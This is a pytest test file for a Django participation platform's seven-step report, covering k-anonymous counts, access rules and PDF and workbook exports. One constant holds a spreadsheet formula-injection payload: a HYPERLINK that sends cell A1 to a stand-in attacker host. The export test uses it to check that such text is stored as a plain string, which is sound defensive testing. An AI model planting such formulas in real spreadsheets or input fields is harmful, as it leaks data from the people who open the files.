"""The seven-step report: its numbers on a known dataset, k, who may read it,
and its files (a tagged PDF with every step, a workbook safe to open).
"""

import io
import json
import shutil
import subprocess
import uuid
from datetime import date, timedelta

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import timezone
from openpyxl import load_workbook

from cms.permissions import COMMUNICATIONS_GROUP, MODERATORS_GROUP
from cms.phases import Step
from dialogue_blocks import services
from dialogue_blocks.models import Contribution, ContributionStatus
from insights.models import ReportFile
from insights.report import build_report
from invitations.models import Invitee, InviteeStatus
from tests.factories import PhasePageFactory, staff
from tests.participation import (
    BOARD_ID,
    DOT_VOTE_ID,
    QUESTION_ID,
    dot_vote_block,
    make_participant,
    support_by,
)

pytestmark = pytest.mark.django_db

K = 3
# role → participants who answer the open question on Verkennen
ROLES = {"raadslid": 4, "wethouder": 3, "griffier": 1}
FORMULA = '=HYPERLINK("https://kwaad.example/?d="&A1;"klik")'


def roadmap_block() -> dict:
    milestone = {
        "title": "Advies aan het VNG-bestuur",
        "description": "",
        "date": date(2027, 3, 1).isoformat(),
        "owner": "VNG-bestuur",
        "status": "gepland",
        "themes": [],
    }
    value = {
        "heading": "Routekaart",
        "intro": "",
        "milestones": [{"type": "item", "value": milestone, "id": str(uuid.uuid4())}],
    }
    return {"type": "roadmap", "value": value, "id": str(uuid.uuid4())}


@pytest.fixture
def dialogue(dialogue):
    dialogue.k_threshold = K
    dialogue.save()
    return dialogue


@pytest.fixture
def steps(dialogue, phase):
    """All seven steps: Verkennen is the `phase` fixture, Voorkeuren votes,
    Voortzetten holds the roadmap."""
    bodies = {
        Step.VOORKEUREN: [dot_vote_block()],
        Step.VOORTZETTEN: [roadmap_block()],
    }
    pages = {Step.VERKENNEN: phase}
    for step in Step:
        if step != Step.VERKENNEN:
            pages[step] = PhasePageFactory(
                parent=dialogue, step=step, body=json.dumps(bodies.get(step, []))
            )
    return pages


@pytest.fixture
def dataset(dialogue, themes, steps):
    """Eight participants answer, one idea, supports, three voters, six invitees."""
    verkennen = steps[Step.VERKENNEN]
    participants = []
    for role, count in ROLES.items():
        for _ in range(count):
            participants.append(
                make_participant(dialogue, len(participants) + 1, role=role)
            )
    answers = [
        Contribution.objects.create(
            participant=author,
            phase=verkennen,
            block_id=QUESTION_ID,
            text=f"Antwoord {number}",
            status=ContributionStatus.PUBLISHED,
        )
        for number, author in enumerate(participants)
    ]
    support_by(answers[5], participants[:3])
    support_by(answers[6], participants[:1])
    Contribution.objects.create(
        participant=participants[0],
        phase=verkennen,
        block_id=QUESTION_ID,
        text="Nog niet gecontroleerd",
        status=ContributionStatus.PENDING,
    )
    Contribution.objects.create(
        participant=participants[1],
        phase=verkennen,
        block_id=BOARD_ID,
        kind="idee",
        theme=themes[0],
        text=FORMULA,
        status=ContributionStatus.PUBLISHED,
    )
    support_by(Contribution.objects.get(text=FORMULA), participants[2:6])
    voorkeuren = steps[Step.VOORKEUREN]
    for voter in participants[:3]:
        services.cast_vote(
            voter,
            voorkeuren,
            DOT_VOTE_ID,
            {str(themes[0].pk): 2, str(themes[1].pk): 1},
            budget=5,
            max_per_option=3,
            options=[str(theme.pk) for theme in themes],
        )
    for number in range(6):
        Invitee.objects.create(
            dialogue=dialogue,
            name=f"Genodigde {number}",
            email=f"genodigde-{number}@gemeente.example",
            role="raadslid",
            status=InviteeStatus.INVITED,
        )
    Invitee.objects.create(
        dialogue=dialogue,
        name="Nog niet uitgenodigd",
        email="later@gemeente.example",
        role="raadslid",
    )
    verkennen.facilitator_summary = "<p>Regie en capaciteit sprongen eruit.</p>"
    verkennen.save_revision().publish()
    return participants


def shown(figures) -> dict[str, str]:
    return {group.group: str(group.participants) for group in figures}


def test_the_funnel_counts_invited_joined_contributed_and_voted(dialogue, dataset):
    funnel = {label: str(value) for label, value in build_report(dialogue).funnel}
    assert funnel == {
        "Uitgenodigd": "6",
        "Meegedaan": "8",
        "Bijgedragen": "8",
        "Gestemd": "3",
    }


def test_a_step_shows_its_participants_by_role_at_k(dialogue, dataset, steps):
    step = build_report(dialogue).steps[Step.VERKENNEN - 1]
    assert step.title == steps[Step.VERKENNEN].title
    assert str(step.participants) == "8"
    # One griffier is below k; with the total shown, the smallest other group
    # is hidden as well, or 8 - 4 - 3 would give the griffier away.
    assert shown(step.by_role) == {
        "raadslid": "4",
        "wethouder": "minder dan 3",
        "griffier": "minder dan 3",
    }


def test_themes_and_kinds_count_distinct_writers_at_k(dialogue, dataset):
    step = build_report(dialogue).steps[Step.VERKENNEN - 1]
    assert step.kinds == ["antwoord", "idee"]
    rows = {row.theme: [str(value) for value in row.by_kind] for row in step.themes}
    assert rows == {
        "Legitimiteit": ["minder dan 3", "minder dan 3"],
        "zonder thema": ["8", "minder dan 3"],
    }


def test_quotes_are_the_most_supported_published_texts_without_author(
    dialogue, dataset
):
    step = build_report(dialogue).steps[Step.VERKENNEN - 1]
    answers = [quote for quote in step.quotes if quote.kind == "antwoord"]
    assert [quote.text for quote in answers] == [
        "Antwoord 5",
        "Antwoord 6",
        "Antwoord 0",
    ]
    assert [str(quote.support) for quote in answers] == [
        "3",
        "minder dan 3",
        "minder dan 3",
    ]
    ideas = [quote for quote in step.quotes if quote.kind == "idee"]
    assert [(quote.theme, str(quote.support)) for quote in ideas] == [
        ("Legitimiteit", "4")
    ]
    assert all(quote.text != "Nog niet gecontroleerd" for quote in step.quotes)


def test_vote_results_summary_and_roadmap_are_in_the_report(dialogue, dataset, themes):
    report = build_report(dialogue)
    voorkeuren = report.steps[Step.VOORKEUREN - 1]
    [results] = voorkeuren.results
    rows = {row.label: (str(row.voters), str(row.value)) for _, row in results.rows()}
    assert rows[themes[0].title] == ("3", "6")
    assert 'role="img"' in results.html
    assert "Regie en capaciteit" in report.steps[Step.VERKENNEN - 1].summary
    assert [milestone.title for milestone in report.roadmap] == [
        "Advies aan het VNG-bestuur"
    ]


def test_building_the_report_reads_as_many_queries_for_few_as_for_many(
    dialogue, dataset, steps
):
    def queries() -> int:
        with CaptureQueriesContext(connection) as captured:
            build_report(dialogue)
        return len(captured)

    few = queries()
    for number in range(40):
        Contribution.objects.create(
            participant=dataset[number % len(dataset)],
            phase=steps[Step.VERKENNEN],
            block_id=QUESTION_ID,
            text=f"Nog een antwoord {number}",
            status=ContributionStatus.PUBLISHED,
        )
    assert queries() == few


REPORT = "/regio/rapport/"


def test_an_unpublished_report_is_for_staff_with_permission_only(
    client, dialogue, dataset
):
    assert client.get(REPORT).status_code == 404
    client.force_login(staff("moderator", MODERATORS_GROUP))
    assert client.get(REPORT).status_code == 404
    client.force_login(staff("communicatie", COMMUNICATIONS_GROUP))
    page = client.get(REPORT)
    assert page.status_code == 200
    html = page.content.decode()
    assert "Concept." in html
    for step in Step:
        assert f"Stap {step.value}. " in html


def test_a_published_report_is_for_everyone_and_linked_from_the_dialogue(
    client, dialogue, dataset
):
    dialogue.report_published = True
    dialogue.save_revision().publish()
    assert "Lees het rapport" in client.get(dialogue.url).content.decode()
    html = client.get(REPORT).content.decode()
    assert "Concept." not in html and "Antwoord 5" in html
    # Visitors download what staff built, and build nothing themselves.
    assert client.post(f"{REPORT}bestanden/", {"kind": "pdf"}).status_code == 404
    assert not ReportFile.objects.exists()


def build(client, kind: str):
    """As Communicatie: build the file, and download it."""
    if not client.session.get("_auth_user_id"):
        client.force_login(staff("communicatie", COMMUNICATIONS_GROUP))
    response = client.post(f"{REPORT}bestanden/", {"kind": kind})
    assert response.status_code == 302
    assert response["Location"] == f"{REPORT}#bestanden"
    return client.get(f"/regio/rapport.{kind}")


def poppler(program: str, *arguments: str) -> str:
    """The output of one of poppler-utils' programs (.ci/run installs them)."""
    return subprocess.run(  # noqa: S603 - a fixed program on our own file
        [shutil.which(program), *arguments],
        capture_output=True,
        text=True,
        check=True,
    ).stdout


def test_staff_build_a_tagged_pdf_with_every_step_and_the_roadmap(
    client, dialogue, dataset, tmp_path
):
    # Before it is built, the file's address leads to where it can be built.
    client.force_login(staff("communicatie", COMMUNICATIONS_GROUP))
    assert client.get("/regio/rapport.pdf")["Location"] == f"{REPORT}#bestanden"

    response = build(client, "pdf")
    assert response["Content-Type"] == "application/pdf"
    today = timezone.localdate().isoformat()
    assert response["Content-Disposition"] == (
        f'attachment; filename="rapport-regio-{today}.pdf"'
    )
    pdf = tmp_path / "rapport.pdf"
    pdf.write_bytes(response.content)
    text = poppler("pdftotext", "-layout", str(pdf), "-")
    for step in Step:
        assert f"Stap {step.value}. {step.label}" in text
    assert "Routekaart" in text and "Advies aan het VNG-bestuur" in text
    assert "minder dan 3" in text
    info = poppler("pdfinfo", str(pdf))
    assert "Tagged:          yes" in info
    assert ReportFile.objects.get(kind="pdf").progress == 100


def test_the_workbook_holds_the_reports_tables_and_no_formula(
    client, dialogue, dataset
):
    response = build(client, "xlsx")
    workbook = load_workbook(io.BytesIO(response.content))
    assert workbook.sheetnames == [
        "Trechter",
        "Deelnemers per groep",
        "Vertegenwoordiging",
        "Stappen",
        "Thema's",
        "Meest gesteund",
        "Uitslagen",
        "Routekaart",
    ]
    funnel = [row for row in workbook["Trechter"].iter_rows(values_only=True)]
    assert funnel[1:] == [
        ("Uitgenodigd", 6),
        ("Meegedaan", 8),
        ("Bijgedragen", 8),
        ("Gestemd", 3),
    ]
    quoted = [
        cell
        for row in workbook["Meest gesteund"].iter_rows()
        for cell in row
        if cell.value == FORMULA
    ]
    assert quoted and all(cell.data_type == "s" for cell in quoted)


def test_asking_twice_while_a_build_is_under_way_queues_it_once(
    client, dialogue, dataset
):
    report_file = ReportFile.objects.create(dialogue=dialogue, kind="pdf")
    client.force_login(staff("communicatie", COMMUNICATIONS_GROUP))
    client.post(f"{REPORT}bestanden/", {"kind": "pdf"})
    report_file.refresh_from_db()
    assert report_file.status == "wachtrij" and not report_file.content
    page = client.get(REPORT).content.decode()
    assert "Het rapport als PDF wordt al gemaakt." in page
    assert '<progress max="100" value="0"' in page


def test_an_unknown_kind_of_file_is_refused_with_a_message(client, dialogue, dataset):
    client.force_login(staff("communicatie", COMMUNICATIONS_GROUP))
    response = client.post(f"{REPORT}bestanden/", {"kind": "docx"})
    assert response.status_code == 200
    assert "Dit soort bestand kan niet gemaakt worden." in response.content.decode()
    assert not ReportFile.objects.exists()


def test_a_step_that_closes_shows_its_results_kept_until_then(dialogue, steps):
    voorkeuren = steps[Step.VOORKEUREN]
    body = [dot_vote_block(visibility="na_sluiting")]
    voorkeuren.body = json.dumps(body)
    voorkeuren.save_revision().publish()
    assert build_report(dialogue).steps[Step.VOORKEUREN - 1].results == []
    voorkeuren.opens_at = timezone.now() - timedelta(days=8)
    voorkeuren.closes_at = timezone.now() - timedelta(days=1)
    voorkeuren.save_revision().publish()
    assert len(build_report(dialogue).steps[Step.VOORKEUREN - 1].results) == 1
